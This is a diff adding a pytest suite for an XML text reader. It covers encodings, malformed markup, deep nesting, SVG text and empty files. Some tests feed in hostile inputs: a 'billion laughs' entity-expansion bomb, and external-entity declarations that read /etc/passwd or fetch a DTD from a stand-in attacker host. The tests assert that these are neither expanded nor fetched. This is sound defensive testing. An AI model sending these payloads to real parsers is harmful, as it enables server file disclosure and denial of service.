@@ -1,0 +1,78 @@
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from tests.parsers.reading import read
+
+
+def test_lines_attributes_and_comments() -> None:
+    data = b"<r xmlns='u'><p>foo <b>ba</b>r</p><x id='k7'>1</x><y>2</y><!-- note --><![CDATA[<z>]]>&amp;&#1488;</r>"
+    reading = read(data, "a.xml")
+    assert reading.text() == "foo bar\n1\n2\n<z>&א"
+    assert reading.text("properties") == "k7"
+    assert reading.text("comment") == "note"
+    assert reading.codes == []
+
+
+@pytest.mark.parametrize("codec", ["utf-8", "utf-16", "windows-1255", "iso-8859-8", "utf-8-sig"])
+def test_character_sets(codec: str) -> None:
+    stated = codec.removesuffix("-sig")
+    assert read(f'<?xml version="1.0" encoding="{stated}"?><r>פרויקט הנץ</r>'.encode(codec)).text() == "פרויקט הנץ"
+
+
+def test_entity_bomb_is_inert_and_told() -> None:
+    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
+    data = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY l0 "lol">{entities}]><r>before &l9; after</r>'.encode()
+    start = time.process_time()
+    reading = read(data)
+    assert time.process_time() - start < 1
+    assert reading.text() == "before &l9; after"
+    assert "lol" in reading.text("hidden")
+    assert reading.codes == ["damaged"]
+
+
+def test_entity_bomb_in_an_attribute() -> None:
+    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
+    data = f'<!DOCTYPE r [<!ENTITY l0 "lol">{entities}]><r a="&l9;">after</r>'.encode()
+    reading = read(data)
+    assert "after" in reading.text()
+    assert reading.codes == ["damaged"]
+
+
+@pytest.mark.parametrize(
+    "doctype",
+    [
+        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
+        '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.test/x.dtd"> %x;]>',
+    ],
+)
+def test_external_entities_are_not_fetched(doctype: str) -> None:
+    reading = read(f"{doctype}<r>a &x; b</r>".encode())
+    assert "root:" not in str(reading.extract)
+    assert "external" in reading.codes
+
+
+def test_broken_xml_is_kept_whole() -> None:
+    reading = read(b"<?xml version='1.0'?><r><a>falcon</b></r>")
+    assert "falcon" in reading.text()
+    assert reading.codes == ["damaged"]
+
+
+def test_depth_costs_nothing() -> None:
+    depth = 100_000
+    reading = read(b"<?xml version='1.0'?>" + b"<a>" * depth + b"deep" + b"</a>" * depth)
+    assert reading.text() == "deep"
+
+
+def test_svg_is_a_picture_with_text() -> None:
+    reading = read(
+        b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><text>fal<tspan>con</tspan></text></svg>"
+    )
+    assert reading.extract.type == "image/svg+xml"
+    assert reading.text() == "falcon"
+
+
+def test_empty_document_says_so() -> None:
+    assert read(b"<?xml version='1.0'?><r/>").codes == ["no-text"]
